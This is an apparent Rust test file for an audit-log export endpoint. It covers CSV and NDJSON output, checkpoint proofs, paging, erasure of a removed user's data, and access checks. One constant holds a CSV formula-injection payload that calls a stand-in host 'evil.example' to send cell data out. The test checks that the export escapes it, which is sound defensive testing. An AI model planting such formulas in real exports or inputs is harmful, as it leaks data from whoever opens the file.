//! Events as a file.

use std::collections::HashSet;

use axum::http::StatusCode;
use futures_util::TryStreamExt;
use kiavi_audit::{Place, ProvenLines, TrustedKeys};
use serde_json::{Value, json};

use crate::{
    audit::{
        export::{Export, Form},
        question::Filters,
    },
    log::tests::{key, seal},
    tests::{Browser, TestTenant},
};

const HOSTILE: &str = "=HYPERLINK(\"https://evil.example?\"&A1)";

/// Somebody who signed in with a user agent that is a formula.
async fn tenant() -> TestTenant {
    let tenant = TestTenant::new().await;
    let mut browser = tenant.browser().from([192, 0, 2, 1]);
    let with = [("user-agent", HOSTILE)];
    let post = || "POST".parse().unwrap();
    let ask = json!({ "email": "ada@example.com", "type": "sign-in" });
    browser.send(post(), "/email-otp/send-verification-otp", Some(ask.to_string()), &with).await;
    let proof = json!({ "email": "ada@example.com", "otp": tenant.newest_code().await });
    let answer = browser.send(post(), "/sign-in/email-otp", Some(proof.to_string()), &with).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
    tenant
}

/// Events that mean nothing, of one type.
async fn fill(tenant: &TestTenant, count: i64) {
    let events = format!(
        "INSERT INTO kiavi.audit_event (id, at, type, outcome, body)
         SELECT gen_random_uuid(), now(), 'email.changed', 'success', ('body ' || n)::bytea FROM generate_series(1, {count}) n"
    );
    tenant.admin.batch_execute(&events).await.unwrap();
}

async fn export(operator: &mut Browser, query: &str) -> (String, String) {
    let answer = operator.get(&format!("/audit/events/export?{query}")).await;
    assert_eq!(answer.status, StatusCode::OK, "{query}: {}", answer.text);
    (answer.headers["content-type"].to_str().unwrap().to_owned(), answer.text)
}

fn trusted() -> TrustedKeys {
    TrustedKeys::from_iter([key().verifier()])
}

#[tokio::test]
async fn a_table_has_what_was_searched_for_and_no_formula() {
    let tenant = tenant().await;
    seal(&tenant).await;
    let ada = tenant.id_of("ada@example.com").await;
    let mut operator = tenant.operator();
    let query = "format=csv&type=session.*,code.*&ip=192.0.2.1&outcome=success&email=ada@example.com";
    let (media_type, table) = export(&mut operator, query).await;
    assert_eq!(media_type, "text/csv; charset=utf-8");
    let lines: Vec<_> = table.split_terminator("\r\n").collect();
    assert!(lines[0].starts_with(r#""index","id","type","outcome","at","request_id","actor","subject""#));
    let mut kinds: Vec<_> = lines[1..].iter().map(|line| line.split(',').nth(2).unwrap()).collect();
    // All of it happened at one moment.
    kinds.sort_unstable();
    assert_eq!(kinds, ["\"code.requested\"", "\"session.created\""]);
    for line in &lines[1..] {
        assert!(line.contains(r#","192.0.2.1","#), "{line}");
        assert!(line.contains(r#","'=HYPERLINK(""https://evil.example?""&A1)","#), "{line}");
        assert!(!line.starts_with("\"\","), "it has its place: {line}");
    }
    let session = lines.iter().find(|line| line.contains("session.created")).unwrap();
    assert!(session.contains(&format!(r#","{ada}","#)), "users are told by their ids: {session}");
    assert_eq!(tenant.events("log.exported").await, 1);
    let told = operator.get("/audit/events?type=log.exported").await.json;
    let told = &told["events"][0];
    assert_eq!(told["actor"]["ref"], "operator:test");
    let filters = json!(["type", "outcome", "email", "ip"]);
    assert_eq!(told["facts"], json!({ "format": "csv", "filters": filters }), "nothing of it names anybody");
    let (_, none) = export(&mut operator, "ip=192.0.2.9").await;
    assert_eq!(none.lines().count(), 1, "nothing was found");
}

#[tokio::test]
async fn lines_have_proofs_against_one_checkpoint_however_many_pages_they_are() {
    let tenant = tenant().await;
    fill(&tenant, 450).await;
    let size = seal(&tenant).await;
    let mut operator = tenant.operator();
    let (media_type, file) = export(&mut operator, "format=ndjson").await;
    assert_eq!(media_type, "application/x-ndjson");
    let mut lines = file.split_inclusive('\n');
    let (proven, _) = ProvenLines::begin(lines.next().unwrap(), &trusted()).unwrap();
    assert_eq!(proven.checkpoint().checkpoint().size, size);
    let (mut proved, mut newer) = (HashSet::new(), Vec::new());
    for line in lines {
        match proven.verify(line).unwrap_or_else(|fault| panic!("{fault}: {line}")) {
            Place::Proved(index) => assert!(proved.insert(index), "each once: {index}"),
            Place::Newer => newer.push(serde_json::from_str::<Value>(line).unwrap()),
        }
    }
    assert_eq!(proved, (0..size).collect());
    // The export itself may be among them: all of it happens at one moment here.
    let kinds: Vec<_> = newer.iter().map(|line| line["type"].as_str().unwrap()).collect();
    assert!(kinds.contains(&"management.requested"), "what is not sealed yet is there: {kinds:?}");
    assert!(kinds.iter().all(|kind| ["management.requested", "log.exported"].contains(kind)), "{kinds:?}");
    let (_, file) = export(&mut operator, "format=ndjson&type=session.created").await;
    let line: Value = serde_json::from_str(file.lines().nth(1).unwrap()).unwrap();
    let ada = tenant.id_of("ada@example.com").await;
    assert_eq!((&line["actor_id"], &line["subject_id"]), (&json!(ada), &json!(ada)));
    assert_eq!(line["personal"][0]["fields"]["user_agent"], HOSTILE);
    tenant.operator().post("/admin/remove-user", json!({ "userId": ada })).await;
    let (_, file) = export(&mut operator, "format=ndjson&type=session.created").await;
    let mut lines = file.lines();
    let (proven, _) = ProvenLines::begin(lines.next().unwrap(), &trusted()).unwrap();
    let line = lines.next().unwrap();
    assert!(
        matches!(proven.verify(line), Ok(Place::Proved(_))),
        "the proof stays when somebody is forgotten"
    );
    assert!(!line.contains("fields") && !line.contains(&ada), "{line}");
}

#[tokio::test]
async fn without_a_checkpoint_nothing_is_proved_and_it_says_so() {
    let tenant = tenant().await;
    let (_, file) = export(&mut tenant.operator(), "format=ndjson&type=session.created").await;
    let lines: Vec<Value> = file.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!((&lines[0]["checkpoint"], &lines[0]["most"]), (&Value::Null, &json!(100_000)));
    assert_eq!((&lines[1]["index"], &lines[1]["proof"]), (&Value::Null, &Value::Null));
}

#[tokio::test]
async fn a_file_ends_with_its_number_and_goes_over_pages_without_anything() {
    let tenant = tenant().await;
    fill(&tenant, 450).await;
    let state = tenant.engine.state();
    let lines = async |most: u64| {
        let export = Export::begin(state.clone(), Filters::default(), Form::Csv, most).await.unwrap();
        let pieces: Vec<_> = export.pieces().try_collect().await.unwrap();
        let text: String = pieces.iter().map(|piece| std::str::from_utf8(piece).unwrap()).collect();
        (pieces.len(), text.lines().count())
    };
    assert_eq!(lines(250).await, (3, 251), "the head, a page, and a part of one");
    let all =
        usize::try_from(tenant.value::<i64>("SELECT count(*) FROM kiavi.audit_event", &[]).await).unwrap();
    assert_eq!(lines(100_000).await.1, all + 1);
    // A question for two things looks at a thousand candidates at a time.
    fill(&tenant, 2_500).await;
    let mut operator = tenant.operator();
    let (_, table) = export(&mut operator, "type=email.changed,session.created&request_id=nobody").await;
    assert_eq!(table.lines().count(), 1);
    let (_, table) = export(&mut operator, "type=email.changed,session.created&ip=192.0.2.1").await;
    assert_eq!(table.lines().count(), 2);
}

#[tokio::test]
async fn nobody_else_takes_it_and_what_means_nothing_is_refused() {
    let tenant = tenant().await;
    for path in ["/audit/events/export", "/audit/events/export?format=ndjson"] {
        assert_eq!(tenant.administrator().await.get(path).await.status, StatusCode::NOT_FOUND);
        assert_eq!(tenant.browser().get(path).await.status, StatusCode::NOT_FOUND);
    }
    let mut operator = tenant.operator();
    for query in ["format=xml", "type=nonsense", "ip=x", "from=yesterday"] {
        let answer = operator.get(&format!("/audit/events/export?{query}")).await;
        assert_eq!((answer.status, answer.code()), (StatusCode::BAD_REQUEST, "VALIDATION_ERROR"), "{query}");
    }
    assert_eq!(tenant.events("log.exported").await, 0);
}
